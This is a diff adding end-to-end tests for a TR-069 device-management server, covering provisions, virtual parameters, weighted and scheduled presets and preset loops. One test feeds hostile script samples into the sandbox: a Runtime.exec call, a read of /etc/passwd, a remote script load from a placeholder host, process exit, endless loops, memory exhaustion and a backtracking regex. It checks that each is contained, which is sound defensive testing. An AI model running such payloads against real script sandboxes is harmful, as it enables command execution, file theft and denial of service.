@@ -92,4 +92,199 @@ class ProvisioningEndToEndTest extends SimulatorCase {
         Document stored = acs.raw().get("devices", RunningAcs.id(cpe));
         assertThat(stored.get("Tags")).isNull();
     }
+
+    private SimulatedCpe bm632w() {
+        return cpe(tree(BM632W), SimulatedCpe.Options.DEFAULT);
+    }
+
+    private void provision(String name, String script) {
+        acs.server.store().documents().replace("provisions", name, Map.of("_id", name, "script", script));
+    }
+
+    private void virtualParameter(String name, String script) {
+        acs.server.store().documents().replace("virtualParameters", name, Map.of("_id", name, "script", script));
+    }
+
+    private void preset(String id, double weight, String channel, String precondition, Map<String, Object> events,
+                        List<Map<String, Object>> configurations) {
+        acs.server.store().documents().replace("presets", id, Map.of("_id", id, "weight", weight, "channel", channel,
+                "events", events, "precondition", precondition, "configurations", configurations));
+    }
+
+    private static Map<String, Object> call(String provision, Object... args) {
+        return Map.of("type", "provision", "name", provision, "args", List.of(args));
+    }
+
+    private static final String MS = "InternetGatewayDevice.ManagementServer.";
+    private static final String INTERVAL_VPARAM = String.join("\n",
+            "const p = 'InternetGatewayDevice.ManagementServer.PeriodicInformInterval';",
+            "let v;",
+            "if (args[1].value) { v = args[1].value[0]; declare(p, null, {value: v}); }",
+            "else { v = declare(p, {value: Date.now()}).value[0]; }",
+            "return {writable: true, value: [v, 'xsd:unsignedInt']};");
+
+    private String simValue(SimulatedCpe cpe, String path) {
+        return String.valueOf(cpe.model().get(path).orElseThrow().value());
+    }
+
+    @Test
+    void aProvisionsTaskRunsBuiltInsAndScriptsWithArguments() throws Exception {
+        acs = RunningAcs.start(dataDir, Map.of("ACS_DISCOVERY", "off"));
+        provision("interval", "declare(args[0], null, {value: args[1] * 2});");
+        SimulatedCpe cpe = bm632w();
+        session(cpe, "0 BOOTSTRAP");
+        acs.queue(cpe, "{\"name\":\"provisions\",\"provisions\":[[\"interval\",\"" + MS
+                + "PeriodicInformInterval\",450],[\"tag\",\"provisioned\",true],[\"value\",\"" + MS
+                + "PeriodicInformEnable\",false]]}");
+        SimulatedCpe.SessionResult result = session(cpe);
+        assertThat(result.acsRequests()).endsWith("SetParameterValues");
+        assertThat(simValue(cpe, MS + "PeriodicInformInterval")).isEqualTo("900");
+        assertThat(simValue(cpe, MS + "PeriodicInformEnable")).isIn("false", "0");
+        assertThat(device(cpe).tags()).contains("provisioned");
+        assertThat(tasksLeft()).isZero();
+        assertThat(faults()).isEmpty();
+    }
+
+    @Test
+    void virtualParametersAreComputedStoredAndSetThroughTasks() throws Exception {
+        acs = RunningAcs.start(dataDir, Map.of("ACS_DISCOVERY", "off"));
+        virtualParameter("informInterval", INTERVAL_VPARAM);
+        virtualParameter("serial", "const s = declare('DeviceID.SerialNumber', {value: 1}).value[0];\n"
+                + "return {writable: false, value: s.toLowerCase()};");
+        SimulatedCpe cpe = bm632w();
+        session(cpe, "0 BOOTSTRAP");
+        acs.queue(cpe, "{\"name\":\"getParameterValues\",\"parameterNames\":[\"VirtualParameters.informInterval\","
+                + "\"VirtualParameters.serial\"]}");
+        SimulatedCpe.SessionResult read = session(cpe);
+        assertThat(read.acsRequests()).doesNotContain("SetParameterValues");
+        assertThat(device(cpe).value("VirtualParameters.informInterval")).contains(
+                Integer.parseInt(simValue(cpe, MS + "PeriodicInformInterval")));
+        assertThat(device(cpe).value("VirtualParameters.serial")).contains(
+                cpe.deviceId().serialNumber().toLowerCase());
+        // stored like a real parameter: the NBI can query it
+        assertThat(acs.raw().get("devices", RunningAcs.id(cpe)).get("VirtualParameters", Document.class)
+                .get("serial", Document.class).get("_writable")).isEqualTo(false);
+
+        acs.queue(cpe, "{\"name\":\"setParameterValues\",\"parameterValues\":[[\"VirtualParameters.informInterval\","
+                + "600]]}");
+        SimulatedCpe.SessionResult set = session(cpe);
+        assertThat(set.acsRequests()).contains("SetParameterValues");
+        assertThat(simValue(cpe, MS + "PeriodicInformInterval")).isEqualTo("600");
+        assertThat(device(cpe).value("VirtualParameters.informInterval")).contains(600);
+        assertThat(tasksLeft()).isZero();
+        assertThat(faults()).isEmpty();
+    }
+
+    @Test
+    void aVirtualParameterReturningNonsenseFaultsItsChannel() throws Exception {
+        acs = RunningAcs.start(dataDir, Map.of("ACS_DISCOVERY", "off"));
+        virtualParameter("broken", "return 42;");
+        SimulatedCpe cpe = bm632w();
+        session(cpe, "0 BOOTSTRAP");
+        acs.queue(cpe, "{\"name\":\"getParameterValues\",\"parameterNames\":[\"VirtualParameters.broken\"]}");
+        session(cpe);
+        assertThat(faults()).singleElement().satisfies(f -> {
+            assertThat(f.getString("code")).isEqualTo("script");
+            assertThat(f.getString("message")).contains("VirtualParameters.broken");
+        });
+        assertThat(tasksLeft()).isOne();
+    }
+
+    @Test
+    void presetsApplyByWeightEventsAndPreconditionsReadFromTheCpeFirst() throws Exception {
+        acs = RunningAcs.start(dataDir, Map.of("ACS_DISCOVERY", "off"));
+        String interval = MS + "PeriodicInformInterval";
+        // the precondition names a parameter the Inform does not carry: read first, then evaluated
+        preset("light", 1, "a", "InternetGatewayDevice.DeviceInfo.HardwareVersion IS NOT NULL", Map.of(),
+                List.of(call("value", interval, "111")));
+        preset("heavy", 5, "b", "", Map.of(), List.of(call("value", interval, "555")));
+        preset("boot-only", 9, "c", "", Map.of("1 BOOT", true), List.of(call("value", interval, "999")));
+        preset("never-on-boot", 0, "d", "", Map.of("1 BOOT", false), List.of(call("tag", "periodic", true)));
+        preset("nobody", 10, "e", "DeviceID.ProductClass = 'Other'", Map.of(),
+                List.of(call("value", interval, "1")));
+        SimulatedCpe cpe = bm632w();
+        // a new CPE's first session: 0 BOOTSTRAP and 1 BOOT
+        session(cpe);
+        assertThat(simValue(cpe, interval)).isEqualTo("999");
+        assertThat(device(cpe).tags()).isEmpty();
+        session(cpe, "2 PERIODIC");
+        // the heavier preset wins the conflict; 1 BOOT is absent; the other product class is not this one
+        assertThat(simValue(cpe, interval)).isEqualTo("555");
+        assertThat(device(cpe).tags()).containsExactly("periodic");
+        assertThat(faults()).isEmpty();
+    }
+
+    @Test
+    void aScheduledPresetAppliesOnlyInItsWindow() throws Exception {
+        acs = RunningAcs.start(dataDir, Map.of("ACS_DISCOVERY", "off"));
+        java.time.ZonedDateTime now = java.time.ZonedDateTime.now(java.time.ZoneOffset.UTC);
+        // a window that opened this minute, and one that opens in two hours
+        preset("now", 0, "a", "", Map.of(), List.of(call("tag", "in-window", true)));
+        acs.server.store().documents().replace("presets", "now", Map.of("_id", "now", "weight", 0, "channel", "a",
+                "schedule", "3600 " + now.getMinute() + " " + now.getHour() + " * * *", "configurations",
+                List.of(Map.of("type", "add_tag", "tag", "in-window"))));
+        int later = (now.getHour() + 2) % 24;
+        acs.server.store().documents().replace("presets", "later", Map.of("_id", "later", "weight", 0, "channel",
+                "b", "schedule", "600 0 " + later + " * * *", "configurations",
+                List.of(Map.of("type", "add_tag", "tag", "out-of-window"))));
+        SimulatedCpe cpe = bm632w();
+        session(cpe);
+        assertThat(device(cpe).tags()).containsExactly("in-window");
+    }
+
+    @Test
+    void hostileScriptsFaultTheirOwnChannelAndTheSessionGoesOn() throws Exception {
+        acs = RunningAcs.start(dataDir, Map.of("ACS_DISCOVERY", "off", "ACS_SCRIPT_MAX_CPU_MS", "300"));
+        Map<String, String> hostile = new java.util.LinkedHashMap<>();
+        hostile.put("throws", "throw new TypeError('bad input');");
+        hostile.put("loops", "while (true) {}");
+        hostile.put("allocates", "const a = []; while (true) a.push(new Array(1000).fill('x'));");
+        hostile.put("java", "return Java.type('java.lang.Runtime').getRuntime().exec('id');");
+        hostile.put("require", "return require('fs').readFileSync('/etc/passwd');");
+        hostile.put("process", "return process.exit(1);");
+        hostile.put("load", "load('http://example.invalid/x.js');");
+        hostile.put("polyglot", "return Polyglot.eval('js', '1');");
+        hostile.put("regex", "return /^(a+)+\\1b$/.test('a'.repeat(40));");
+        int i = 0;
+        for (Map.Entry<String, String> h : hostile.entrySet()) {
+            provision(h.getKey(), h.getValue());
+            preset(h.getKey(), i++, h.getKey(), "", Map.of(), List.of(call(h.getKey())));
+        }
+        preset("good", 0, "good", "", Map.of(), List.of(call("tag", "still-configured", true)));
+        SimulatedCpe cpe = bm632w();
+        session(cpe);
+        assertThat(device(cpe).tags()).containsExactly("still-configured");
+        Map<String, String> codes = new java.util.TreeMap<>();
+        for (Document f : faults()) {
+            codes.put(f.getString("channel"), f.getString("code"));
+        }
+        assertThat(codes).containsEntry("throws", "script.TypeError").containsEntry("loops", "script.Error")
+                .containsEntry("allocates", "script.Error").containsEntry("java", "script.ReferenceError")
+                .containsEntry("require", "script.ReferenceError").containsEntry("process", "script.ReferenceError")
+                .containsEntry("load", "script.ReferenceError").containsEntry("polyglot", "script.ReferenceError")
+                .containsEntry("regex", "script.Error").doesNotContainKey("good");
+        Document loops = faults().stream().filter(f -> f.getString("channel").equals("loops")).findFirst().orElseThrow();
+        assertThat(loops.getString("message")).contains("ACS_SCRIPT_MAX_STATEMENTS");
+        Document throwsFault = faults().stream().filter(f -> f.getString("channel").equals("throws")).findFirst()
+                .orElseThrow();
+        assertThat(throwsFault.get("detail", Document.class).getString("message")).isEqualTo("bad input");
+        // GenieACS keeps the channel's provisions as JSON text
+        assertThat(throwsFault.getString("provisions")).isEqualTo("[[\"throws\"]]");
+
+        // a faulted channel waits for its retry; the server still serves sessions
+        SimulatedCpe other = cpe(tree(BM632W).copyWithSerial("000777"), SimulatedCpe.Options.DEFAULT);
+        session(other);
+        assertThat(device(other).tags()).containsExactly("still-configured");
+    }
+
+    @Test
+    void aPresetThatNeverSettlesEndsInPresetLoop() throws Exception {
+        acs = RunningAcs.start(dataDir, Map.of("ACS_DISCOVERY", "off"));
+        // each evaluation flips a tag the precondition looks at: the presets never settle
+        preset("on", 0, "flip", "Tags.flag IS NULL", Map.of(), List.of(call("tag", "flag", true)));
+        preset("off", 0, "flip", "Tags.flag IS NOT NULL", Map.of(), List.of(call("tag", "flag", false)));
+        SimulatedCpe cpe = bm632w();
+        session(cpe);
+        assertThat(faults()).singleElement().satisfies(f -> assertThat(f.getString("code")).isEqualTo("preset_loop"));
+    }
 }
